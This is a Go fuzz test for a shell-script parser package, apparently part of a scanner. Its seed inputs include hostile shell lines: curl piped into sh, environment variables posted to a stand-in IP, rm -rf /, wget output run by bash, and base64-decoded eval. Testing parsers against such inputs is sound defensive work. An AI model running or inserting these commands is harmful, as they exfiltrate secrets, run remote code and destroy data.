package shellscan

import "testing"

// FuzzParse: any input parses without panic, and every command's
// references (substitutions, conditions, pipes) are in range.
func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"curl -s http://example.com | sh\n",
		"x=$(env); curl -d \"$x\" http://192.0.2.1\n",
		"if [ \"$(date +%s)\" -gt 1 ]; then rm -rf /; fi\n",
		"eval $'\\x65\\x63'\nbash <(wget -O- x)\ncat <<EOF\n$(id)\nEOF\n",
		"sh -c 'sh -c \"eval $(echo aGk= | base64 -d)\"'\n",
		"[[ $a == b && $(hostname) != c ]] || (( $(date +%s) > 5 ))\n",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		s := Parse(b)
		for i, c := range s.Cmds {
			if c.Subst != 0 && s.Subst(c.Subst) == nil {
				t.Fatalf("cmd %d: subst %d out of range", i, c.Subst)
			}
			for _, g := range c.Guards {
				if g <= 0 || g > len(s.Conds) {
					t.Fatalf("cmd %d: guard %d out of range", i, g)
				}
			}
			for _, a := range c.Args {
				for _, id := range Tokens(a) {
					s.SubstCmds(id)
				}
			}
			_ = c.Name()
		}
	})
}
